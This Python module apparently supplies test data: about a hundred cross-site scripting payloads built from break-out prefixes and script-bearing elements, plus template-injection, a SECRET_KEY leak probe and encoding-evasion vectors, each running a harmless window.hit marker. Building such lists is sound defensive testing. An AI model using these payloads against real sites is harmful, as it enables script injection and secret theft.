"""A hundred texts that become script where a page forgets to escape: by element, attribute, address and encoding."""

from __future__ import annotations

HIT = "window.hit=1"
_BREAK_OUTS = ("", "'>", '">', "</script>", "</title>", "</textarea>", "--></style>", "</code></td></tr></table>")
_ELEMENTS = (
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<a href='javascript:{HIT}'>click</a>",
    f"<object data='javascript:{HIT}'></object>",
)
_OTHERS = (
    f"javascript:{HIT}",
    f"' onmouseover='{HIT}",
    f'" autofocus onfocus="{HIT}',
    f'"><button hx-get="/login" hx-trigger="load" hx-on::load="{HIT}">',
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    f"${{{HIT}}}",
    f'{{"a": "</pre><script>{HIT}</script>"}}',
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{HIT}</x:script>",
    f"<ScRiPt\x0c>{HIT}</sCrIpT>",
    f"\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{HIT}",
    f"<math><mtext></p><img src=x onerror={HIT}>",
)
PAYLOADS = tuple(before + element for before in _BREAK_OUTS for element in _ELEMENTS) + _OTHERS
